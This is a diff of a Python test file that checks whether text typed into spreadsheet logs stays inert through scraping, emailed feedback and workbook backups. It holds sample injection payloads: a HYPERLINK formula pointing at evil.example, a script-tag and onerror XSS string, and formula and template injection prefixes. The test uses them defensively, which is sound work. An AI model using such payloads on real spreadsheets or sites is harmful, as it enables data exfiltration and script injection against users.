@@ -1,23 +1,32 @@
 """Whatever people write stays text wherever it goes, and the service's own logs hold nothing of it."""
 
 import logging
+import re
 from html.parser import HTMLParser
+from io import BytesIO
+from itertools import count
 from typing import Any
 
 import pytest
+from hypothesis import Phase, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
 from werkzeug.test import Client
 
-from jobs import desk
+from jobs import desk, restore
+from jobs.backup import manifest
+from jobs.restore import Wanted
 from jobs.runner import run_job
-from service.ledger import letters
+from service.ledger import letters, workbooks
 from service.offices.sandbox_drive import ADMINISTRATOR, KEEPER
 from service.serving import make_console
+from tests.hostile import MARK, TYPED
 from tests.jobs.ground import INES, Ground, noon
 
 pytestmark = pytest.mark.long
 
 EVA = "eva.mark@example.org"
-MARK = "zzmarkzz"
+CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]")
 FORMULA = f'=HYPERLINK("https://evil.example/{MARK}","{MARK}")'
 HTML = f'<script>alert("{MARK}")</script><img src=x onerror={MARK}>'
 TEXTS = (FORMULA, HTML, f"+{MARK}", f"-1+{MARK}", f"@{MARK}", f"{{{{{MARK}}}}}", f"%({MARK})s", f'";{MARK}')
@@ -150,3 +159,54 @@ def test_the_logs_hold_no_word_no_name_and_no_address() -> None:
     assert [line for line in SAID if MARK in line] == []
     addresses = (EVA, INES, ADMINISTRATOR)
     assert [line for line in ours if any(address in line for address in addresses)] == []
+
+
+IN_SHEETS = TYPED.map(lambda text: CONTROLS.sub("", text)).filter(lambda text: text.strip(" \t\n'"))
+"""What a cell of a sheet and of an Excel file can hold; an apostrophe before it is Sheets' mark of text."""
+ROUNDS = count(1)
+
+
+@settings(max_examples=3, phases=[Phase.generate])
+@given(st.lists(IN_SHEETS, min_size=8, max_size=8), IN_SHEETS)
+def test_whatever_is_typed_stays_text_from_sheet_to_letter_and_back_from_a_backup(
+    ground: Ground, texts: list[str], feedback: str
+) -> None:
+    number = next(ROUNDS)
+    day = f"2026-08-{10 + 2 * number}"
+    before = {name: sorted(formulas(ground, file)) for name, file in files(ground).items()}
+    tab = ground.bench.open(EVA, ground.file(EVA), "Professional Learning Log")
+    for text in texts:
+        tab.log({"Date": "8/5/2026", "What it was": text, "Hours": "2"})
+    tab.save()
+    reflection = ground.bench.open(EVA, ground.file(EVA), "Self-Reflection on the CPSEL")
+    reflection.type(f"Attempt {number}", value=True, under="Ready for review")
+    reflection.save()
+    run(ground, "scrape", f"{day}T09:00:00")
+    with ground.office.ledger.read() as session:
+        rows = workbooks.readings(session)[ground.key(EVA)].tabs["pl_log"].rows["activities"]
+    read = {str(row["title"]).strip() for row in rows if row.get("title") is not None}
+    assert {text.removeprefix("'").strip() for text in texts} <= read
+    staff = ground.bench.interface_tab("Reviews")
+    place = next(n for n, row in enumerate(staff.shown) if row[0].endswith(f"self_reflection-{number}"))
+    head = next(row for row in staff.shown if row[0] == "No.")
+    typed = {"Level": "2 Developing", "Feedback": feedback, "Send": True}
+    staff.typed |= {(place, head.index(heading)): value for heading, value in typed.items()}
+    staff.save()
+    run(ground, "review", f"{day}T09:10:00")
+    run(ground, "backup", f"{day}T09:20:00")
+    words = feedback.removeprefix("'").split()
+    assert any(all(word in text for word in words) for _, text in ground.bench.mails(EVA))
+    after = {name: sorted(formulas(ground, file)) for name, file in files(ground).items()}
+    said = [one for name in after for one in {*after[name]} - {*before[name]}]
+    assert [one for one in said if MARK in outside_quotes(one) or "evil" in outside_quotes(one)] == []
+    folder = manifest.backups(ground.bench.folder / "backups")[0]
+    for kept in manifest.read(folder).files:
+        book = load_workbook(BytesIO(manifest.content(folder, kept)))
+        computed = [c.value for sheet in book for row in sheet for c in row if c.data_type == "f"]
+        assert [one for one in computed if MARK in outside_quotes(str(one))] == []
+    for whom in (EVA, "interface"):
+        assert restore.plan(ground.office, Wanted(whom, folder), noon(day)) == []
+
+
+def files(ground: Ground) -> dict[str, str]:
+    return {"workbook": ground.file(EVA), "interface": desk.file_id(ground.office, noon("2026-08-06"))}
